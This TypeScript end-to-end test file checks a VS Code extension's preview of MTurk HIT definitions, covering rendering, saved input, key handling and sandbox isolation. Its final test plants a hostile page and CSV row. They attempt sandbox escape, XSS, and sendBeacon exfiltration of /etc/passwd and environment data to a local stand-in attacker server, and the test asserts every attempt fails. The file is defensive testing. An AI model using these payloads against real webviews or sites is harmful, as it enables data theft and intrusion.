/** The preview of a definition in the real workbench: what it shows, what it keeps, and that a hostile page gets nowhere. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { FrameLocator } from 'playwright-core';
import { questionNamespaces } from '../../src/mturk/questionKinds.ts';
import { eventually } from './support/eventually.ts';
import { localAtService } from './support/localAtService.ts';
import { useWorkbench } from './support/suite.ts';

const definition = (question: unknown, more: Readonly<Record<string, unknown>> = {}) =>
  JSON.stringify({
    Title: 'Try ${word}',
    Description: 'A task that is tried.',
    Reward: '0.10',
    duration: '10 min',
    lifetime: '1 day',
    question,
    data: 'rows.csv',
    ...more,
  });

const page = (body: string) =>
  `<!DOCTYPE html><html><head><title>t</title><script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script></head><body>
<form name="mturk_form" id="mturk_form" method="post" action="https://www.mturk.com/mturk/externalSubmit"><input type="hidden" name="assignmentId" id="assignmentId">
${body}<input type="submit" id="submitButton" value="Send it"></form><script>turkSetAssignmentID()</script></body></html>`;

const form = `<QuestionForm xmlns="${questionNamespaces.QuestionForm[0]}"><Question><QuestionIdentifier>age</QuestionIdentifier><IsRequired>true</IsRequired><QuestionContent><Text>How old is \${word}?</Text></QuestionContent><AnswerSpecification><FreeTextAnswer/></AnswerSpecification></Question></QuestionForm>`;

describe('the preview of a definition', () => {
  const workbench = useWorkbench();
  const heard: string[] = [];
  let evil = '';
  let server: Server;

  before(async () => {
    server = createServer((request, response) => {
      const parts: Buffer[] = [];
      request.on('data', (part: Buffer) => parts.push(part));
      request.on('end', () => {
        heard.push(`${request.method} ${request.url} ${Buffer.concat(parts).toString()}`);
        response.setHeader('access-control-allow-origin', '*');
        response.setHeader('content-type', 'text/html');
        response.end(page('<p>An external page</p><input name="note">'));
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  after(() => server.close());

  const write = (name: string, text: string): void => {
    const path = join(workbench().workspace, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  };
  const panel = (): FrameLocator => workbench().webview();
  const task = (): FrameLocator => panel().locator('iframe#task').contentFrame();
  const preview = async (name: string): Promise<void> => {
    // Keys that are pressed in the task’s frame stay there.
    const tab = workbench().page.locator('.part.editor').getByRole('tab').first();
    if ((await tab.count()) > 0) await tab.click();
    await workbench().command('View: Close All Editors');
    await workbench().openFile(name);
    await workbench().command('MTurk: Preview HIT Definition');
    await workbench().tab(`Preview ${name}`).waitFor();
  };

  it('shows the task of a row, keeps what is typed over a save, and shows what is submitted as a row', async () => {
    write('rows.csv', 'word,colour\nRED,blue\nGREEN,green\n');
    write('task.hit.json', definition('task2.html'));
    write(
      'task2.html',
      page(
        '<p id="said">Say ${word}</p><input name="said"><input type="checkbox" name="sure" value="yes"><img src="/no-such.png">',
      ),
    );
    await preview('task.hit.json');
    await task().getByText('Say RED').waitFor();
    await panel().getByText('of 2', { exact: true }).waitFor();
    await panel().getByText('Couldn’t load /no-such.png').waitFor();
    await task().locator('input[name=said]').fill('red, in ink');
    await task().locator('input[name=sure]').check();

    await workbench().tab('task.hit.json').click();
    await workbench().openFile('task2.html');
    write(
      'task2.html',
      page(
        '<p id="said">Say ${word} aloud</p><input name="said"><input type="checkbox" name="sure" value="yes"><script>console.error("a fault of", {line: 3}); noSuchFunction()</script>',
      ),
    );
    await task().getByText('Say RED aloud').waitFor();
    await eventually(async () => assert.equal(await task().locator('input[name=said]').inputValue(), 'red, in ink'));
    assert.ok(await task().locator('input[name=sure]').isChecked());
    await panel().getByText('a fault of {"line":3}').waitFor();
    await panel().getByText('noSuchFunction is not defined').waitFor();

    await task().getByRole('button', { name: 'Send it' }).click();
    await panel().getByRole('heading', { name: 'Submitted', exact: true }).waitFor();
    assert.equal(await panel().locator('.results tbody tr').first().innerText(), 'said\tred, in ink');
    const heads = await panel().locator('.wide th').allInnerTexts();
    assert.deepEqual(heads, ['Input.word', 'Input.colour', 'Answer.said', 'Answer.sure']);
    assert.deepEqual(await panel().locator('.wide td').allInnerTexts(), ['RED', 'blue', 'red, in ink', 'yes']);

    await panel().getByRole('button', { name: 'Next Row' }).click();
    await task().getByText('Say GREEN aloud').waitFor();
    assert.equal(await task().locator('input[name=said]').inputValue(), '');
    await panel().getByRole('button', { name: 'Before accepting' }).click();
    const button = task().locator('#submitButton');
    await eventually(async () => assert.ok(await button.isDisabled()));
    await panel().getByRole('button', { name: 'Phone' }).click();
    await eventually(async () =>
      assert.equal(Math.round((await panel().locator('iframe#task').boundingBox({ timeout: 5000 }))?.width ?? 0), 390),
    );
  });

  it('lets the editor have its own keys while the task has the keyboard, and no others', async () => {
    write('keys.hit.json', definition('keys.html'));
    write(
      'keys.html',
      page(
        `<input name="said"><script>
const { postMessage } = MessagePort.prototype;
const { dispatchEvent } = EventTarget.prototype;
const forged = { source: 'mturk-preview', type: 'key', code: 'KeyW', key: 'w', keyCode: 87, ctrlKey: true };
const forge = port => postMessage.call(port, forged);
addEventListener('click', () => {
  // A port of the page's own, a message without a port, and a key that nobody pressed.
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ source: 'mturk-preview', type: 'keys' }, '*', [port2]);
  forge(port1);
  parent.postMessage(forged, '*');
  dispatchEvent.call(document.body, new KeyboardEvent('keydown', { ...forged, bubbles: true, cancelable: true }));
  document.body.dataset.forged = 'yes';
})
// The editor's port, if its script looked up how to send only when a key is pressed; and other keys than those that were pressed.
MessagePort.prototype.postMessage = function () { forge(this) };
for (const [name, value] of [['code', 'KeyW'], ['ctrlKey', true]])
  Object.defineProperty(KeyboardEvent.prototype, name, { get: () => value });
</script>`,
      ),
    );
    await preview('keys.hit.json');
    const box = task().locator('input[name=said]');
    const quickInput = workbench().page.locator('.quick-input-widget');
    await box.click();
    await task().locator('body[data-forged=yes]').waitFor();
    await workbench().page.keyboard.type('words');
    assert.equal(await box.inputValue(), 'words');
    await workbench().page.keyboard.press('F1');
    await quickInput.waitFor();
    assert.ok(await workbench().tab('Preview keys.hit.json').isVisible(), 'Ctrl+W of the page went nowhere');
    await workbench().page.keyboard.press('Escape');
    await quickInput.waitFor({ state: 'hidden' });
  });

  it('says what is wrong with a definition, with its place, and goes on when it is put right', async () => {
    write('wrong.hit.json', definition('missing.html'));
    await preview('wrong.hit.json');
    await panel().getByText('There is no file “missing.html” here').waitFor();
    await panel()
      .getByRole('button', { name: /^wrong\.hit\.json:1:\d+$/ })
      .waitFor();
    write('missing.html', page('<p>Here it is</p>'));
    await task().getByText('Here it is').waitFor();
  });

  it('shows a QuestionForm and takes its answer', async () => {
    write('form.hit.json', definition('form.xml'));
    write('form.xml', form);
    await preview('form.hit.json');
    await task().getByText('How old is RED?').waitFor();
    await task().getByRole('textbox').fill('41');
    await task().getByRole('button', { name: 'Submit' }).click();
    await panel().getByRole('heading', { name: 'Submitted', exact: true }).waitFor();
    assert.equal(await panel().locator('.results tbody tr').first().innerText(), 'age\t41');
  });

  it('shows a page of this machine, and lets its results go to the service', async () => {
    heard.length = 0;
    write('page.hit.json', definition({ url: `${evil}/exp?word=\${word}` }));
    await preview('page.hit.json');
    await task().getByText('An external page').waitFor();
    assert.match(heard[0] ?? '', /^GET \/exp\?word=RED&assignmentId=.*turkSubmitTo=/);
    await task().locator('input[name=note]').fill('from outside');
    await task().getByRole('button', { name: 'Send it' }).click();
    await panel().getByRole('heading', { name: 'Submitted', exact: true }).waitFor();
    assert.equal(await panel().locator('.results tbody tr').first().innerText(), 'note\tfrom outside');
  });

  it('keeps hostile pages and rows from the extension, the window, the files and other profiles', async () => {
    await workbench().openView('MTurk');
    await workbench().command('MTurk: Start Local');
    await workbench().statusBar('LOCAL $10,000.00').waitFor();
    const { local } = localAtService(workbench());
    const secret = join(workbench().workspace, '..', 'secret.csv');
    writeFileSync(secret, 'word\nTOP SECRET\n');
    const messages = [
      {
        type: 'notification',
        name: 'model',
        params: { uri: 'x', file: 'FORGED', accepted: true, state: { kind: 'failed', title: 'FORGED', problems: [] } },
      },
      { type: 'command', name: 'openLink', params: { url: `${evil}/opened` } },
      { type: 'command', name: 'copyRow', params: {} },
      { command: 'openLink', url: `${evil}/opened` },
      { channel: 'did-click-link', data: { uri: `${evil}/opened` } },
      { source: 'mturk-preview', type: 'opens', url: 'javascript:alert(1)' },
      { source: 'mturk-preview', type: 'problem', kind: 'error', level: 'error', text: '<img src=x onerror=fetch("' },
      { source: 'mturk-preview', type: 'typed', fields: 'no list' },
    ];
    const hostile = `<p>Hostile page</p><script>
const tell = (what, value) => navigator.sendBeacon(${JSON.stringify(evil)} + '/told?' + what, String(value).slice(0, 300));
for (const target of [parent, parent.parent, parent.parent.parent, top])
  for (const message of ${JSON.stringify(messages)}) { try { target.postMessage(message, '*') } catch (e) {} }
const reach = { parentDocument: () => parent.document.body.innerHTML, topDocument: () => top.document.title, api: () => parent.acquireVsCodeApi(),
  topLocation: () => { top.location = ${JSON.stringify(evil)} + '/top'; throw 0 }, parentLocation: () => { parent.location = ${JSON.stringify(evil)} + '/parent'; throw 0 },
  require: () => require('fs').readFileSync('/etc/passwd'), process: () => process.env.HOME, popup: () => { const w = Window.prototype.open.call(window, ${JSON.stringify(evil)} + '/popup'); if (!w) throw 0; return w } };
for (const [name, attempt] of Object.entries(reach)) { try { tell('reached-' + name, attempt()) } catch (e) {} }
const loads = ['file:///etc/passwd', 'vscode-resource://file///etc/passwd', ${JSON.stringify(local.controlUrl)} + '/health', ${JSON.stringify(local.endpoint)} + '/dashboard', location.origin + '/control/health'];
for (const url of loads) fetch(url, { method: url.includes('/control/') ? 'POST' : 'GET', body: url.includes('/control/') ? '{}' : undefined }).then(async r => { if (r.ok) tell('fetched', url + await r.text()) }).catch(() => {});
fetch(${JSON.stringify(local.endpoint)}, { method: 'POST', headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'MTurkRequesterServiceV20170117.ListHITs' }, body: '{}' }).then(async r => tell('api', await r.text())).catch(() => {});
addEventListener('load', () => { const a = document.createElement('a'); a.href = ${JSON.stringify(evil)} + '/link'; a.target = '_top'; document.body.append(a); a.click();
  const f = document.createElement('form'); f.action = ${JSON.stringify(evil)} + '/form'; f.target = '_top'; document.body.append(f); f.submit();
  alert('stop'); document.body.dataset.done = 'yes'; tell('done', 1) });
</script><p id="cell">\${word}</p>`;
    write('hostile.hit.json', definition('hostile.html', { data: 'hostile.csv', Title: 'A hostile row' }));
    write('hostile.html', page(hostile));
    write(
      'hostile.csv',
      `word\n"<script>navigator.sendBeacon('${evil}/told?row'); try { top.location='${evil}/row-top' } catch (e) {} parent.postMessage({type:'notification',name:'model',params:{}},'*')</script>from a row"\n`,
    );
    heard.length = 0;
    const asked: string[] = [];
    workbench().page.on('dialog', dialog => {
      asked.push(dialog.message());
      void dialog.dismiss();
    });
    const before = workbench().page.url();
    await preview('hostile.hit.json');
    await task().getByText('Hostile page').waitFor();
    await eventually(() =>
      assert.ok(
        heard.some(each => each.includes('/told?done')),
        'the page has run to its end',
      ),
    );
    await panel().getByText('alert: stop').waitFor();
    await panel().getByText('<img src=x onerror=fetch("').waitFor();
    assert.equal(workbench().page.url(), before);
    assert.equal(await panel().getByText('FORGED').count(), 0);
    assert.ok(await workbench().tab('Preview hostile.hit.json').isVisible());
    assert.deepEqual(asked, []);
    const told = heard.filter(each => !/\/told\?(?:done|row) /.test(each));
    assert.deepEqual(told, [], 'nothing was reached');
    assert.ok(
      heard.some(each => each.includes('/told?row')),
      'the row ran as a part of the page, as it would for workers',
    );

    // A definition that points elsewhere on the machine, by its path or by a link, fills no page with what lies there.
    write('outside.hit.json', definition('task2.html', { data: '../secret.csv' }));
    await preview('outside.hit.json');
    await panel().getByText('files of the definition’s own workspace folder alone').waitFor();
    symlinkSync(secret, join(workbench().workspace, 'linked.csv'));
    write('linked.hit.json', definition('task2.html', { data: 'linked.csv' }));
    await preview('linked.hit.json');
    await panel().getByText('files of the definition’s own workspace folder alone').waitFor();
    process.kill(local.pid);
  });
});
